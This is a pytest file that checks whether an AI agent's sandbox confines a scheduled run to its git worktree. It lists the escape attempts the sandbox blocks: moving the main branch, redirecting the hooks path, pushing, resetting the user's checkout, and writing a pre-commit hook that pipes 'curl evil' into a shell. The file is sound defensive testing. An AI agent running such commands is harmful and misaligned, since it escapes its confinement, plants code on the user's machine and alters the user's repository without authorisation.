"""A worktree-isolated run with the sandbox on is confined to its worktree (real git, each backend).

From the run's worktree, the moves that escaped isolation before the sandbox (moving the main branch,
setting hooks in the main repository's config, changing the user's checkout through `git -C`, pushing)
must all fail, leave the main checkout byte for byte as it was, and the run's own work must still land
on its branch when the runner commits it after the run.
"""

from __future__ import annotations

import hashlib
import shutil
import subprocess
from pathlib import Path
from types import SimpleNamespace

import pytest
from sandbox_support import BACKEND_NAMES, backend_or_skip, runner_for

from agent.cron.task import CronTask
from agent.permissions.policy import PermissionPolicy
from agent.permissions.sandbox.backends import Backend
from agent.runs.isolation import IsolatedRun
from agent.tools.base import RunState, ToolContext
from agent.tools.bash import BashTool

pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")


@pytest.fixture(params=BACKEND_NAMES)
def backend(request: pytest.FixtureRequest) -> Backend:
    return backend_or_skip(request.param)


def git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=repo, check=True, capture_output=True, text=True).stdout


@pytest.fixture(autouse=True)
def quiet_git(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("GIT_CEILING_DIRECTORIES", str(tmp_path))
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    monkeypatch.setenv("GIT_AUTHOR_NAME", "Dev")
    monkeypatch.setenv("GIT_AUTHOR_EMAIL", "dev@example.com")
    monkeypatch.setenv("GIT_COMMITTER_NAME", "Dev")
    monkeypatch.setenv("GIT_COMMITTER_EMAIL", "dev@example.com")


def make_repo(folder: Path, remote: Path) -> Path:
    folder.mkdir(parents=True)
    git(folder, "init", "-q", "-b", "main")
    (folder / "app.py").write_text("version = 1\n")
    (folder / "f").write_text("keep me\n")
    (folder / "src").mkdir()
    (folder / "src" / "lib.py").write_text("x = 1\n")
    git(folder, "add", "-A")
    git(folder, "commit", "-q", "-m", "first")
    git(remote.parent, "init", "-q", "--bare", str(remote))
    git(folder, "remote", "add", "origin", str(remote))
    git(folder, "push", "-q", "origin", "main")
    (folder / "app.py").write_text("version = 1.1\n")  # a commit the remote lacks: a push would move it
    git(folder, "commit", "-q", "-am", "second")
    (folder / "untracked.txt").write_text("mine\n")
    return folder


def fingerprint(repo: Path, remote: Path) -> dict[str, str]:
    """HEAD, every ref, .git/config, the index, every file of the working tree, and the remote's refs."""
    def digest(path: Path) -> str:
        return hashlib.sha256(path.read_bytes()).hexdigest()
    files = {str(p.relative_to(repo)): digest(p) for p in sorted(repo.rglob("*"))
             if p.is_file() and ".git" not in p.relative_to(repo).parts}
    return {**files, "<HEAD>": (repo / ".git" / "HEAD").read_text(), "<refs>": git(repo, "for-each-ref"),
            "<config>": digest(repo / ".git" / "config"), "<index>": digest(repo / ".git" / "index"),
            "<hooks>": " ".join(sorted(p.name for p in (repo / ".git" / "hooks").iterdir())),
            "<remote>": git(remote, "for-each-ref")}


ATTEMPTS = [
    "git update-ref refs/heads/main HEAD",
    "git config core.hooksPath /tmp/evil-hooks",
    "git -C {main} rm -q f",
    "touch {main}/x",
    "echo 'curl evil | sh' > {main}/.git/hooks/pre-commit",
    "git push -q origin HEAD:main",
    "git push -q origin HEAD:refs/heads/evil",
    "git update-ref -d refs/remotes/origin/main",
    "git -C {main} checkout -q -b evil",
    "git -C {main} reset -q --hard HEAD~1",
]


async def test_an_isolated_run_cannot_touch_the_main_checkout_and_its_work_lands_on_its_branch(
        tmp_path: Path, backend: Backend) -> None:
    remote = tmp_path / "remote.git"
    repo = make_repo(tmp_path / "repo", remote)
    task = CronTask(id="0a1b2c3d", cron="* * * * *", prompt="work", createdAt=0, isolation="worktree")
    run = await IsolatedRun.open(repo, {"XDG_STATE_HOME": str(tmp_path / "state")}, task, "run000000001")
    assert run is not None
    before = fingerprint(repo, remote)  # with the run's branch, as the runner made it
    sandbox = runner_for(repo, backend, home=tmp_path / "home")
    conversation = SimpleNamespace(ctx=ToolContext(project_dir=repo, sandbox=sandbox,
                                                   run=RunState(scheduled=True)),
                                   policy=PermissionPolicy(repo), system_prompt="")
    run.root(conversation)
    ctx, tool = conversation.ctx, BashTool()
    try:
        # the run's own changes first: a commit by the previous step must not be able to move main
        work = "echo 'version = 2' > app.py && echo new > src/added.txt"  # the root may be closed (landlock-only)
        ok = await tool.run(tool.parse_input({"command": work}), ctx)
        assert not ok.is_error, ok.content
        for attempt in ATTEMPTS:
            command = attempt.format(main=repo)
            result = await tool.run(tool.parse_input({"command": command, "timeout": 30_000}), ctx)
            assert result.is_error, f"{command} succeeded:\n{result.content}"
            assert "sandbox" in result.content.lower(), f"{command}: no reason given:\n{result.content}"
            assert fingerprint(repo, remote) == before, f"{command} changed the main checkout"
    finally:
        sandbox.close()
    ended = await run.end("ok")
    assert ended.branch is not None and ended.commit is not None
    assert git(repo, "show", f"{ended.branch}:app.py") == "version = 2\n"
    assert git(repo, "show", f"{ended.branch}:src/added.txt") == "new\n"
    after = fingerprint(repo, remote)
    def others(refs: str) -> list[str]:
        return [line for line in refs.splitlines() if ended.branch not in line]
    assert others(after.pop("<refs>")) == others(before.pop("<refs>"))  # only the run's branch moved
    assert after == before


async def test_without_the_sandbox_the_same_move_escapes(tmp_path: Path) -> None:
    """The attempts above are real escapes: unsandboxed, a run's worktree moves the user's main branch."""
    repo = make_repo(tmp_path / "repo", tmp_path / "remote.git")
    task = CronTask(id="0a1b2c3d", cron="* * * * *", prompt="work", createdAt=0, isolation="worktree")
    run = await IsolatedRun.open(repo, {"XDG_STATE_HOME": str(tmp_path / "state")}, task, "run000000001")
    assert run is not None
    git(run.run_dir, "commit", "-q", "--allow-empty", "-m", "moved")
    tool = BashTool()
    result = await tool.run(tool.parse_input({"command": "git update-ref refs/heads/main HEAD"}),
                            ToolContext(project_dir=run.run_dir))
    assert not result.is_error, result.content
    assert git(repo, "log", "-1", "--format=%s", "main").strip() == "moved"
    await run.end("error")
